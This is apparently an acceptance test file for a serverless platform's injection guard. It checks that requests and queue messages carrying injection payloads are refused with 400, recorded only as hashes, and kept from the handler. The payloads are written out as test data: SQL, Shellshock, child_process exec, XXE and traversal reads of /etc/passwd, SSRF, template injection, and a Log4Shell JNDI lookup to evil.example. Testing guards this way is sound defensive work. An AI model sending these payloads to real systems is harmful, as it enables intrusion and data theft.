// Injection over real HTTP: for every class, a payload sent to a deployed function is refused with 400
// before the handler (the handler logs each call, and the refused request ids never appear in its logs),
// recorded as `guard.rejected` + `injection.detected` (class, field, a SHA-256 of the value, never the
// value), and the answer names the field and nothing else. The same field passes once the manifest
// exempts it; a monitor-mode function is served and the finding recorded.
//
// The same payloads published on the bus reach a queue consumer through the same chain: each is
// dead-lettered by the injection guard and the consumer, which logs every record, never sees one.
//
// Every attack here comes from 127.0.0.1, which is allowlisted: automatic blocking after repeated
// injection attempts is test/acceptance/abuse.test.ts's subject, not this file's.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { DeadLetter } from '../../src/store/store.ts';
import { answerOf as answerOfResponse, assertError, manifest, startTestPlatform, until, type Answer, type CreatedKey, type RequestOptions, type TestPlatform } from '../support/platform.ts';

/** Logs each call, so the function's logs list every request that reached it. */
const recorder = `
export const handler = async () => {
  console.log('served');
  return { statusCode: 200, headers: { 'content-type': 'application/json' }, body: '{"ok":true}' };
};
`;
const triggers = ['{ method: ANY, path: / }', '{ method: GET, path: "/files/{name}" }'];

interface Case {
  class: string;
  /** The field the answer and the event name. */
  field: string;
  /** The string the event's evidence hashes (as the guard saw it, after the gateway's own decoding). */
  value: string;
  send: (fn: string) => [method: string, path: string, opts: RequestOptions];
}

const json = (body: Record<string, unknown>): RequestOptions => ({ body });
// Each payload carries a canary (≥ 6 characters) that must not come back in any answer or log line.
const cases: Case[] = [
  { class: 'sql', field: 'query.id', value: '1 UNION SELECT cnry01, password FROM users--', send: (fn) => ['GET', `/fn/${fn}?id=${encodeURIComponent('1 UNION SELECT cnry01, password FROM users--')}`, {}] },
  { class: 'nosql', field: 'body.filter', value: '{"cnry02": {"$ne": null}}', send: (fn) => ['POST', `/fn/${fn}`, json({ filter: '{"cnry02": {"$ne": null}}' })] },
  { class: 'command', field: 'headers.user-agent', value: '() { :; }; /bin/bash -c "cat /etc/cnry03"', send: (fn) => ['GET', `/fn/${fn}`, { headers: { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/cnry03"' } }] },
  { class: 'js', field: 'body.expression', value: "require('child_process').exec('cnry04')", send: (fn) => ['POST', `/fn/${fn}`, json({ expression: "require('child_process').exec('cnry04')" })] },
  { class: 'traversal', field: 'params.name', value: '..%2f..%2fcnry05%2fetc%2fpasswd', send: (fn) => ['GET', `/fn/${fn}/files/..%252f..%252fcnry05%252fetc%252fpasswd`, {}] },
  { class: 'ssrf', field: 'body.webhook', value: 'http://0x7f.1:6379/cnry06', send: (fn) => ['POST', `/fn/${fn}`, json({ webhook: 'http://0x7f.1:6379/cnry06' })] },
  { class: 'xxe', field: 'body.document', value: '<!DOCTYPE r [<!ENTITY cnry07 SYSTEM "file:///etc/passwd">]><r>&cnry07;</r>', send: (fn) => ['POST', `/fn/${fn}`, json({ document: '<!DOCTYPE r [<!ENTITY cnry07 SYSTEM "file:///etc/passwd">]><r>&cnry07;</r>' })] },
  { class: 'prototype', field: 'body.path', value: '__proto__.cnry08', send: (fn) => ['POST', `/fn/${fn}`, json({ path: '__proto__.cnry08', value: true })] },
  { class: 'serialized', field: 'body.session', value: "_$$ND_FUNC$$_function(){require('child_process').exec('cnry09')}()", send: (fn) => ['POST', `/fn/${fn}`, json({ session: "_$$ND_FUNC$$_function(){require('child_process').exec('cnry09')}()" })] },
  { class: 'template', field: 'query.name', value: "{{''.__class__.__mro__[1].__subclasses__()}}cnry10", send: (fn) => ['GET', `/fn/${fn}?name=${encodeURIComponent("{{''.__class__.__mro__[1].__subclasses__()}}cnry10")}`, {}] },
];
/** Attacks on a body's or a query's shape: keys, which an exemption does not cover. */
const shapeCases: Case[] = [
  { class: 'nosql', field: 'query.user.$ne', value: '$ne', send: (fn) => ['GET', `/fn/${fn}?user[$ne]=cnry11&password[$ne]=x`, {}] },
  { class: 'prototype', field: 'body.settings.__proto__', value: '__proto__', send: (fn) => ['POST', `/fn/${fn}`, { body: '{"settings":{"__proto__":{"cnry12":true}}}', headers: { 'content-type': 'application/json' } }] },
  { class: 'xxe', field: 'body', value: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY cnry13 SYSTEM "file:///etc/passwd">]><a>&cnry13;</a>', send: (fn) => ['POST', `/fn/${fn}`, { body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY cnry13 SYSTEM "file:///etc/passwd">]><a>&cnry13;</a>', headers: { 'content-type': 'application/xml' } }] },
];
const canaries = Array.from({ length: 13 }, (_, i) => `cnry${String(i + 1).padStart(2, '0')}`);

let tp: TestPlatform;
let key: CreatedKey;

before(async () => {
  tp = await startTestPlatform({ overrides: { ipBlock: { allowlist: ['127.0.0.1'] } } });
  const exempt = [...new Set(cases.map((c) => c.field))].join(', ');
  for (const [name, extra] of [
    ['inj-block', []],
    ['inj-exempt', [`injection: { exempt: [${exempt}] }`]],
    ['inj-monitor', ['injection: { mode: monitor }']],
  ] as const) {
    const deployed = await tp.deployFiles({ 'bulwark.yaml': manifest(name, triggers, [...extra]), 'index.mjs': recorder });
    assert.equal(deployed.status, 201, deployed.text);
  }
  const consumer = [
    'name: inj-queue', 'handler: index.mjs#handler', 'owner: tests@example.com', 'expires: 2099-12-31',
    'triggers:', '  - queue: { subject: inj.events }',
  ].join('\n') + '\n';
  const queued = await tp.deployFiles({
    'bulwark.yaml': consumer,
    'index.mjs': `export const handler = async (event) => { console.log('got ' + event.Records[0].messageId); };`,
  });
  assert.equal(queued.status, 201, queued.text);
  key = await tp.createKey({ role: 'invoker', functions: ['*'] });
});
after(() => tp.close());

const send = (c: Case, fn: string): Promise<Answer> => {
  const [method, path, opts] = c.send(fn);
  return tp.request(method, path, { key: key.key, ...opts });
};
const sha256 = (s: string) => createHash('sha256').update(s).digest('hex');

async function served(fn: string): Promise<Set<string>> {
  const answer = await tp.request('GET', `/admin/v1/functions/${fn}/logs?limit=1000`, { key: tp.adminKey });
  assert.equal(answer.status, 200, answer.text);
  return new Set((answer.json.logs as Array<{ requestId: string }>).map((l) => l.requestId));
}

/** Waits until `requestId` is in the function's logs, then returns every served id (logs are written in order). */
async function servedIncluding(fn: string, requestId: string): Promise<Set<string>> {
  const deadline = Date.now() + 5000;
  for (;;) {
    const ids = await served(fn);
    if (ids.has(requestId) || Date.now() > deadline) return ids;
    await new Promise((r) => setTimeout(r, 50));
  }
}

test('every class is refused with 400 before the handler, recorded with a hash as evidence, and nothing leaks', async () => {
  const refused: string[] = [];
  for (const c of [...cases, ...shapeCases]) {
    const answer = await send(c, 'inj-block');
    assertError(answer, 400, 'BWK_E_GUARD_INJECTION', [...tp.secrets, ...canaries]);
    assert.equal(answer.json.error.message, `Input at ${c.field} was refused: it looks like an injection attempt`, `${c.class}: the answer names the field, nothing else`);
    const rejected = await tp.expectEvent('guard.rejected', answer.requestId);
    assert.deepEqual(rejected.detail, { guard: 'injection', rule: c.class, code: 'BWK_E_GUARD_INJECTION', source: 'http' });
    const detected = await tp.expectEvent('injection.detected', answer.requestId);
    assert.deepEqual(detected.detail, { class: c.class, field: c.field, evidence: sha256(c.value), mode: 'block', code: 'BWK_E_GUARD_INJECTION' });
    assert.equal(detected.function, 'inj-block');
    refused.push(answer.requestId);
  }
  const control = await tp.request('POST', '/fn/inj-block', { key: key.key, body: { name: "Siobhán O'Brien", note: 'Select the best option from our menu; drop by anytime!' } });
  assert.equal(control.status, 200, control.text);
  const ids = await servedIncluding('inj-block', control.requestId);
  assert.ok(ids.has(control.requestId), 'the handler logs what it serves');
  for (const id of refused) assert.ok(!ids.has(id), `request ${id} reached the handler`);

  // Payloads travel in events only as hashes, and the gateway log never has them (path parameters aside:
  // the access log records the path, whatever it holds).
  const recorded = JSON.stringify(tp.events) + tp.logLines().filter((l) => !l.includes('"path":')).join('\n');
  for (const canary of canaries) assert.ok(!recorded.includes(canary), `${canary} appears in an event or a log line`);
});

test('the same fields pass once the manifest exempts them; keys are still checked there', async () => {
  const servedIds: string[] = [];
  for (const c of cases) {
    const answer = await send(c, 'inj-exempt');
    assert.equal(answer.status, 200, `${c.class} in exempt ${c.field}: ${answer.text}`);
    servedIds.push(answer.requestId);
  }
  const ids = await servedIncluding('inj-exempt', servedIds.at(-1)!);
  for (const id of servedIds) assert.ok(ids.has(id), `request ${id} was not served`);
  assert.ok(!tp.events.some((e) => e.function === 'inj-exempt' && e.type === 'injection.detected'));

  const proto = await tp.request('POST', '/fn/inj-exempt', { key: key.key, body: '{"path":{"__proto__":{"admin":true}}}', headers: { 'content-type': 'application/json' } });
  assertError(proto, 400, 'BWK_E_GUARD_INJECTION', tp.secrets);
  assert.equal(proto.json.error.message, 'Input at body.path.__proto__ was refused: it looks like an injection attempt');
});

test('monitor mode: the request is served and the finding recorded, without a refusal', async () => {
  const answers: Answer[] = [];
  for (const c of [cases[0]!, cases[5]!, shapeCases[1]!]) {
    const answer = await send(c, 'inj-monitor');
    assert.equal(answer.status, 200, answer.text);
    const detected = await tp.expectEvent('injection.detected', answer.requestId);
    assert.deepEqual(detected.detail, { class: c.class, field: c.field, evidence: sha256(c.value), mode: 'monitor' });
    assert.equal(detected.function, 'inj-monitor');
    assert.ok(!tp.events.some((e) => e.type === 'guard.rejected' && e.requestId === answer.requestId));
    answers.push(answer);
  }
  const ids = await servedIncluding('inj-monitor', answers.at(-1)!.requestId);
  for (const a of answers) assert.ok(ids.has(a.requestId), `request ${a.requestId} was not served`);
});

test('every class published on the bus is dead-lettered by the injection guard; the consumer never sees it', async () => {
  /** The case's payload as a message body: body fields keep their name, other places become body.value. */
  const asMessage = (c: Case): { payload: Record<string, unknown>; field: string } => {
    const name = c.field.startsWith('body.') ? c.field.slice('body.'.length) : 'value';
    return { payload: { [name]: c.value }, field: `body.${name}` };
  };
  const published: Array<{ c: Case; messageId: string; field: string }> = [];
  for (const c of cases) {
    const { payload, field } = asMessage(c);
    const answer = await tp.publish('inj.events', payload, key.key);
    assert.equal(answer.status, 202, answer.text);
    assertNoCanary(answer.text);
    published.push({ c, messageId: answer.json.messageId as string, field });
  }
  const control = await tp.publish('inj.events', { name: "Siobhán O'Brien", note: 'Select the best option from our menu; drop by anytime!' }, key.key);
  assert.equal(control.status, 202, control.text);
  const controlId = control.json.messageId as string;

  const letterOf = async (messageId: string): Promise<DeadLetter> => {
    const found = await until(8000, async () => (await tp.deadLetters('inj-queue')).find((d) => d.messageId === messageId));
    assert.ok(found, `message ${messageId} was not dead-lettered`);
    return found;
  };
  for (const { c, messageId, field } of published) {
    const letter = await letterOf(messageId);
    assert.equal(letter.reason, 'BWK_E_GUARD_INJECTION', c.class);
    assert.equal(letter.guard, 'injection');
    assert.equal(letter.rule, c.class, `${c.class} in ${field}`);
    assert.equal(letter.attempts, 1, 'a refusal is not retried');
    const rejected = tp.events.find((e) => e.type === 'guard.rejected' && e.function === 'inj-queue' && e.detail?.rule === c.class && e.detail?.source === 'queue');
    assert.ok(rejected, `guard.rejected for ${c.class} with source queue`);
  }

  // The consumer logs every record it gets: the control message arrives, none of the attacks did.
  const logs = await until(8000, async () => {
    const answer = await tp.request('GET', '/admin/v1/functions/inj-queue/logs?limit=1000', { key: tp.adminKey });
    const got = (answer.json.logs as Array<{ message: string }>).map((l) => l.message);
    return got.includes(`got ${controlId}`) ? got : undefined;
  });
  assert.ok(logs, 'the control message reached the consumer');
  for (const { messageId } of published) assert.ok(!logs.includes(`got ${messageId}`), `message ${messageId} reached the consumer`);
});

type Repeated = Record<string, string | string[]>;

/** A GET whose headers may repeat (an array value is sent as one header line per value), as fetch cannot. */
function getWithRepeatedHeaders(path: string, headers: Repeated): Promise<{ status: number; json: any; requestId: string }> {
  // Node's raw form, [name, value, name, value, …], sends every line as written.
  const lines = Object.entries({ host: new URL(tp.url).host, authorization: `Bearer ${key.key}`, ...headers }).flatMap(([name, v]) => (Array.isArray(v) ? v : [v]).flatMap((one) => [name, one]));
  return new Promise((resolve, reject) => {
    const req = httpRequest(new URL(path, tp.url), { headers: lines, agent: false }, (res) => {
      let text = '';
      res.on('data', (d: Buffer) => (text += d.toString('utf8')));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, json: JSON.parse(text), requestId: String(res.headers['x-request-id']) }));
    });
    req.on('error', reject);
    req.end();
  });
}

test('a payload in a repeated header or query name is refused: each value and the joined value the 2.0 event carries', async () => {
  const attacks: Array<[field: string, path: string, headers: Repeated]> = [
    // Node keeps only the first User-Agent (and Referer, From, …) in request.headers; the event gets all of them.
    ['headers.user-agent', '/fn/inj-block', { 'user-agent': ['Mozilla/5.0', '() { :; }; /bin/bash -c "cat /etc/cnry14"'] }],
    ['headers.referer', '/fn/inj-block', { referer: ['https://example.com/', '${jndi:ldap://evil.example/cnry15}'] }],
    // Harmless one by one; the 2.0 event joins them into a' , sleep(5) , ' for an INSERT … VALUES ('…').
    ['query.q', `/fn/inj-block?q=${encodeURIComponent("cnry16'")}&q=sleep(5)&q='`, {}],
    ['headers.x-note', '/fn/inj-block', { 'x-note': ["cnry17'", 'sleep(5)', "'"] }],
  ];
  const refused: string[] = [];
  for (const [field, path, headers] of attacks) {
    const answer = await getWithRepeatedHeaders(path, headers);
    assert.equal(answer.status, 400, `${field}: ${JSON.stringify(answer.json)}`);
    assert.equal(answer.json.error.code, 'BWK_E_GUARD_INJECTION');
    assert.equal(answer.json.error.message, `Input at ${field} was refused: it looks like an injection attempt`);
    assert.ok(!JSON.stringify(answer.json).includes('cnry'), 'nothing of the payload comes back');
    refused.push(answer.requestId);
  }
  const control = await getWithRepeatedHeaders('/fn/inj-block?tag=a&tag=b', { 'user-agent': ['Mozilla/5.0', 'curl/8.5'], 'x-note': ['one', 'two'] });
  assert.equal(control.status, 200, JSON.stringify(control.json));
  const ids = await servedIncluding('inj-block', control.requestId);
  for (const id of refused) assert.ok(!ids.has(id), `request ${id} reached the handler`);
});

test('a multipart form with a binary file: its text fields are still inspected, the file itself is not', async () => {
  // An image with bytes that are not UTF-8 (so the body as a whole is not), and a stretch that would read as SQL.
  const image = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe]), Buffer.from("' or 1=1--"), Buffer.from([0x00, 0xc3])]);
  const form = (comment: string) => Buffer.concat([
    Buffer.from(`--b0und\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${comment}\r\n`),
    Buffer.from('--b0und\r\nContent-Disposition: form-data; name="photo"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n'),
    image,
    Buffer.from('\r\n--b0und--\r\n'),
  ]);
  const post = (comment: string) => tp.fetch('/fn/inj-block', {
    method: 'POST', key: key.key, body: form(comment), headers: { 'content-type': 'multipart/form-data; boundary=b0und' },
  });
  const attack = await post("cnry18' OR '1'='1");
  const refused = await answerOfResponse(attack);
  assertError(refused, 400, 'BWK_E_GUARD_INJECTION', [...tp.secrets, 'cnry18']);
  assert.equal(refused.json.error.message, 'Input at body was refused: it looks like an injection attempt');
  const upload = await answerOfResponse(await post("Siobhán O'Brien's cat, 3 years old"));
  assert.equal(upload.status, 200, upload.text);
  const ids = await servedIncluding('inj-block', upload.requestId);
  assert.ok(!ids.has(refused.requestId), 'the refused upload never reached the handler');
});

function assertNoCanary(text: string): void {
  for (const canary of canaries) assert.ok(!text.includes(canary), `${canary} echoed back`);
}
